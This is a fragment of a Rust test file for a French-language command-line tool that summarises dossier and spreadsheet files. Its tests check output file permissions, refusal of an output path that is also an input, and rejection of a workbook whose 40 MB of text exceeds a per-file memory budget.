    assert_eq!(premier["synthese"]["dossiers"], 2, "{premier:#}");
    let second = lancer(true);
    assert_eq!(second["synthese"]["dossiers"], 2, "the annotated copies are not read back: {second:#}");
    assert_eq!(premier["synthese"]["total_demande_fnp"], second["synthese"]["total_demande_fnp"]);
    for f in ["synthese.csv", "synthese.json", "rapport.html"] {
        let mode = std::fs::metadata(rapport.join(f)).expect("written").permissions().mode() & 0o777;
        assert_eq!(mode, 0o664, "{f}: {mode:o}");
    }
    assert!(!rapport.join(".fnp-reste.tmp").exists(), "stale temporary removed");
    // An output that is an input is refused, --force or not, and the input is untouched.
    let avant = std::fs::read(lot.join("a.toml")).expect("read");
    for args in
        [&["dossier", "a.toml", "-o", "a.toml", "--force"][..], &["convert", "a.toml", "-o", "a.toml", "--force"]]
    {
        let o = fnp().current_dir(&lot).args(args).output().expect("runs");
        assert_eq!(o.status.code(), Some(2), "{args:?}");
        assert!(String::from_utf8_lossy(&o.stderr).contains("est aussi une entrée"), "{args:?}");
    }
    assert_eq!(std::fs::read(lot.join("a.toml")).expect("read"), avant);
    let o = fnp().arg("check").arg(&lot).arg("--report").arg(&lot).output().expect("runs");
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("est aussi une entrée"));
}

/// Runs a command under a given umask (set in a shell, so the test process keeps its own).
#[cfg(unix)]
fn sous_umask(masque: u32, c: std::process::Command) -> std::process::Output {
    let programme = c.get_program().to_string_lossy().into_owned();
    let args: Vec<String> = c.get_args().map(|a| format!("'{}'", a.to_string_lossy())).collect();
    std::process::Command::new("sh")
        .arg("-c")
        .arg(format!("umask {masque:03o} && NO_COLOR=1 exec '{programme}' {}", args.join(" ")))
        .output()
        .expect("sh")
}

/// A workbook whose texts unfold to more than the memory budget of one file is refused from
/// its zip directory, before the reader would hold them all (and the batch goes on).
#[test]
fn giant_shared_strings_are_refused_before_reading() {
    use std::io::Write;
    let dir = tempfile::tempdir().expect("tempdir");
    let source = std::fs::File::open("tests/fixtures/classeurs/cafe-libreoffice.xlsx").expect("fixture");
    let mut archive = zip::ZipArchive::new(source).expect("zip");
    let chemin = dir.path().join("geant.xlsx");
    let mut sortie = zip::ZipWriter::new(std::fs::File::create(&chemin).expect("create"));
    let options = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    for i in 0..archive.len() {
        let partie = archive.by_index_raw(i).expect("part");
        if partie.name().is_ok_and(|n| n == "xl/sharedStrings.xml") {
            continue;
        }
        sortie.raw_copy_file(partie).expect("copy");
    }
    // 40 Mo of text, stored: a low ratio, so only the memory budget can refuse it.
    sortie.start_file("xl/sharedStrings.xml", options).expect("start");
    sortie.write_all(b"<?xml version=\"1.0\"?><sst>").expect("write");
    sortie.write_all(&vec![b' '; 40 * 1024 * 1024]).expect("write");
    sortie.write_all(b"</sst>").expect("write");
    sortie.finish().expect("finish");
    std::fs::copy("tests/fixtures/cafe.toml", dir.path().join("autre.toml")).expect("copy");
    let (v, code) = json_de(&["--max-size", "100", dir.path().to_str().expect("utf-8")]);
    assert_eq!(code, 2, "{v:#}");
    assert_eq!(v["synthese"]["dossiers"], 2, "the batch goes on: {v:#}");
    let message = v.to_string();
    assert!(message.contains("ses textes se déplieraient en"), "{message}");
}
